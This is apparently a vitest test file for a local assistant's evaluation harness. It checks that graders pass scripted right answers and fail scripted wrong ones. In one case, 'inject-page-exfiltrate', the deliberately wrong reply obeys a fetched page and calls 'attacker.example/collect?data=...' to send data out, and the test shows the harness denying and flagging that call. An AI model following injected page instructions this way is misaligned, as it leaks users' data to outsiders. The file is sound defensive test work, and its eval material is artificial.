import { JSDOM } from 'jsdom';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { CORE_SET } from '$lib/evals/golden/core-set';
import { runEval, type EvalTarget, type HarnessDeps } from '$lib/evals/harness';
import { OracleEngine, type OracleReply } from '$lib/evals/oracle-engine';
import { summarize } from '$lib/evals/report';
import type { EvalCase, EvalSet } from '$lib/evals/types';
import type { EvalWorkspace } from '$lib/evals/workspace';
import { openScratchWorkspace } from '$lib/storage/eval-workspace';
import { HearthError } from '$lib/types/errors';
import { DEFAULT_SETTINGS } from '$lib/types/settings';

// The harness over the real answer turn, real tools, the offline web and a throwaway workspace,
// with an engine scripted to answer right, then wrong on purpose: every grader kind must pass the
// right answers and fail the wrong ones, through the whole path a real model's answers take.

function pick(...ids: string[]): EvalSet {
	const cases = ids.map((id) => {
		const found = CORE_SET.cases.find((c) => c.id === id);
		if (!found) throw new Error(`no case ${id}`);
		return found;
	});
	return { ...CORE_SET, cases };
}

function prompt(id: string, turn = 0): string {
	return CORE_SET.cases.find((c) => c.id === id)!.turns[turn]!.text;
}

/** The passage number of the search result holding `text`, as search_knowledge numbered it. */
function numberOf(results: string[], text: string): number {
	const blocks = results.join('\n').split(/\n(?=\[\d+\] )/);
	const block = blocks.find((b) => b.includes(text));
	return Number(/\[(\d+)\]/.exec(block ?? '')?.[1] ?? 0);
}

const GARDEN = 'https://example.org/hearth-eval/garden.html';

const RIGHT: Record<string, OracleReply> = {
	[prompt('arith-2plus2')]: { text: '2 + 2 = 4' },
	[prompt('fact-capital-france')]: { text: 'Paris.' },
	[prompt('reason-json')]: { text: '```json\n{"name": "Ada", "age": 36}\n```' },
	[prompt('speed-ok')]: { text: 'OK' },
	[prompt('tool-search-python')]: {
		calls: [{ name: 'web_search', args: { query: 'Python tutorials' } }],
		text: ({ results }) =>
			results.join().includes('The Python Tutorial') ? 'Start with The Python Tutorial.' : 'None.'
	},
	[prompt('knowledge-printer')]: {
		calls: [{ name: 'search_knowledge', args: { query: 'floor 2 printer name' } }],
		text: ({ results }) => `It is called Kestrel [${numberOf(results, 'Kestrel')}].`
	},
	[prompt('memory-colour')]: {
		calls: [{ name: 'remember', args: { text: "The user's favourite colour is teal." } }],
		text: 'I will remember that.'
	},
	[prompt('memory-colour', 1)]: {
		text: ({ system }) => (system.includes('teal') ? 'Your favourite colour is teal.' : 'No idea.')
	},
	[prompt('inject-page-exfiltrate')]: {
		calls: [{ name: 'fetch_page', args: { url: GARDEN } }],
		text: 'Tomatoes need plenty of sun and deep watering twice a week.'
	}
};

const WRONG: Record<string, OracleReply> = {
	[prompt('arith-2plus2')]: { text: 'It is 5.' },
	[prompt('fact-capital-france')]: { text: 'Lyon' },
	[prompt('reason-json')]: { text: '{"name": "Ada", "age": 63}' },
	[prompt('speed-ok')]: { text: 'OK', delayMs: 1100 },
	[prompt('tool-search-python')]: { text: 'Here are some tutorials.' },
	[prompt('knowledge-printer')]: {
		calls: [{ name: 'search_knowledge', args: { query: 'floor 2 printer name' } }],
		text: ({ results }) => `It is called Kestrel [${numberOf(results, 'Kestrel') === 1 ? 2 : 1}].`
	},
	[prompt('memory-colour')]: { text: 'OK.' },
	[prompt('memory-colour', 1)]: RIGHT[prompt('memory-colour', 1)]!,
	[prompt('inject-page-exfiltrate')]: {
		calls: [
			{ name: 'fetch_page', args: { url: GARDEN } },
			{ name: 'fetch_page', args: { url: 'https://attacker.example/collect?data=tomatoes' } }
		],
		text: 'Done as the page asked.'
	}
};

const IDS = [
	'arith-2plus2',
	'fact-capital-france',
	'reason-json',
	'speed-ok',
	'tool-search-python',
	'knowledge-printer',
	'memory-colour',
	'inject-page-exfiltrate'
];

function setup(replies: Record<string, OracleReply>) {
	const engine = new OracleEngine(replies);
	const target: EvalTarget = {
		choice: { kind: 'ollama', engine, model: 'oracle' },
		label: 'Oracle'
	};
	const opened: EvalWorkspace[] = [];
	let disposed = 0;
	const deps: HarnessDeps = {
		settings: () => DEFAULT_SETTINGS,
		parseHtml: (html, url) => new JSDOM(html, { url }).window.document,
		openWorkspace: async (kase) => {
			const workspace = await openScratchWorkspace(kase);
			opened.push(workspace);
			return {
				...workspace,
				dispose: async () => {
					disposed++;
					await workspace.dispose();
				}
			};
		}
	};
	return { engine, target, deps, opened, disposed: () => disposed };
}

afterEach(() => vi.restoreAllMocks());

// The first case loads the turn's code and the tools: slow on a busy machine.
describe('runEval', { timeout: 60_000 }, () => {
	it('passes every grader kind on right answers, storing transcript, tool calls, timings and reasons', async () => {
		// Nothing in an eval may reach the network: the offline web answers every request.
		const fetchSpy = vi.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('network!'));
		const { target, deps, opened, disposed } = setup(RIGHT);
		const progress: number[] = [];
		const run = await runEval(pick(...IDS), target, deps, {
			signal: new AbortController().signal,
			onProgress: (p) => {
				if (p.result) progress.push(p.done);
			}
		});
		expect(fetchSpy).not.toHaveBeenCalled();
		expect(run.status).toBe('done');
		expect(progress).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
		const failed = run.results.filter((r) => !r.pass);
		expect(failed.map((r) => [r.caseId, r.graders.map((g) => g.reason)])).toEqual([]);
		// One throwaway workspace per case, each dropped afterwards.
		expect(opened).toHaveLength(IDS.length);
		expect(disposed()).toBe(IDS.length);
		expect(run.options).toEqual({ temperature: 0, topP: 1, seed: 42 });

		const search = run.results.find((r) => r.caseId === 'tool-search-python')!;
		expect(search.toolCalls).toMatchObject([
			{ turn: 0, name: 'web_search', args: { query: 'Python tutorials' }, status: 'done' }
		]);
		expect(search.transcript).toEqual([
			{ role: 'user', text: 'Search for Python tutorials' },
			{ role: 'assistant', text: 'Start with The Python Tutorial.', status: 'done' }
		]);
		expect(search.timings?.timeToFirstTokenMs).toBeGreaterThanOrEqual(0);
		expect(search.graders[0]?.reason).toContain('Called web_search');

		const memory = run.results.find((r) => r.caseId === 'memory-colour')!;
		expect(memory.transcript.map((t) => t.text)).toEqual([
			prompt('memory-colour'),
			'I will remember that.',
			prompt('memory-colour', 1),
			'Your favourite colour is teal.'
		]);
	});

	it('fails every grader kind on wrong answers, each with its reason', async () => {
		const { target, deps } = setup(WRONG);
		const run = await runEval(pick(...IDS), target, deps, { signal: new AbortController().signal });
		const reasons = Object.fromEntries(
			run.results.map((r) => [r.caseId, r.graders.filter((g) => !g.pass).map((g) => g.reason)])
		);
		expect(run.results.every((r) => !r.pass)).toBe(true);
		expect(reasons['arith-2plus2']).toEqual(["Expected 4; the answer's last number is 5."]);
		expect(reasons['fact-capital-france']![0]).toContain('Expected "Paris"');
		expect(reasons['reason-json']).toEqual(['$.age should be 36, it is 63.']);
		expect(reasons['speed-ok']![0]).toMatch(/^Too slow: first token after \d+ ms \(goal 1000 ms\)/);
		expect(reasons['tool-search-python']![0]).toContain('no tool was called');
		expect(reasons['knowledge-printer']![0]).toMatch(
			/^Cites \[\d\]; passage office-printer was \[\d\]\.$/
		);
		expect(reasons['memory-colour']).toHaveLength(2);
		// The refused exfiltration was still attempted: the no-tool grader sees it.
		const injected = run.results.find((r) => r.caseId === 'inject-page-exfiltrate')!;
		expect(injected.toolCalls.map((c) => c.status)).toEqual(['done', 'denied']);
		expect(reasons['inject-page-exfiltrate']![0]).toContain('attacker.example');
	});

	it('keeps going after an engine failure, recording it on the case', async () => {
		const { target, deps } = setup({
			...RIGHT,
			[prompt('fact-capital-france')]: {
				text: '',
				error: new HearthError('engine_unreachable', 'Nobody home.')
			}
		});
		const run = await runEval(pick('fact-capital-france', 'arith-2plus2'), target, deps, {
			signal: new AbortController().signal
		});
		expect(run.results.map((r) => [r.caseId, r.pass, r.error?.code])).toEqual([
			['fact-capital-france', false, 'engine_unreachable'],
			['arith-2plus2', true, undefined]
		]);
		expect(summarize(run.results)).toMatchObject({ cases: 2, passed: 1, answered: 1 });
	});

	it('cancels between and within cases: the run keeps what finished', async () => {
		const { target, deps } = setup({
			...RIGHT,
			[prompt('speed-ok')]: { text: 'OK', delayMs: 5000 }
		});
		const stop = new AbortController();
		const run = await runEval(
			pick('arith-2plus2', 'speed-ok', 'fact-capital-france'),
			target,
			deps,
			{
				signal: stop.signal,
				onProgress: (p) => {
					if (p.current === 'speed-ok') setTimeout(() => stop.abort(), 50);
				}
			}
		);
		expect(run.status).toBe('cancelled');
		expect(run.results.map((r) => r.caseId)).toEqual(['arith-2plus2']);
		expect(run.caseCount).toBe(3);
	});

	it('sends temperature 0, the seed and the case agent’s tools only', async () => {
		const { engine, target, deps } = setup(RIGHT);
		await runEval(pick('tool-search-python'), target, deps, {
			signal: new AbortController().signal,
			seed: 7
		});
		const first = engine.requests[0]!;
		expect(first.options).toMatchObject({ temperature: 0, topP: 1, seed: 7 });
		expect(first.tools?.map((t) => t.name).sort()).toEqual(['fetch_page', 'web_search']);
	});
});

describe('the built-in golden set', () => {
	it('has the roadmap cases and at least 62 cases over every category', () => {
		const cases: EvalCase[] = CORE_SET.cases;
		expect(cases.length).toBeGreaterThanOrEqual(62);
		expect(cases.find((c) => c.id === 'arith-2plus2')?.turns[0]?.text).toBe("What's 2+2?");
		expect(cases.find((c) => c.id === 'tool-search-python')?.graders[0]).toMatchObject({
			kind: 'tool-call',
			tool: 'web_search'
		});
		const categories = new Set(cases.map((c) => c.category));
		for (const category of [
			'arithmetic',
			'facts',
			'tools',
			'knowledge',
			'memory',
			'code',
			'reasoning',
			'injection',
			'speed'
		]) {
			expect(categories.has(category as EvalCase['category']), category).toBe(true);
		}
	});
});
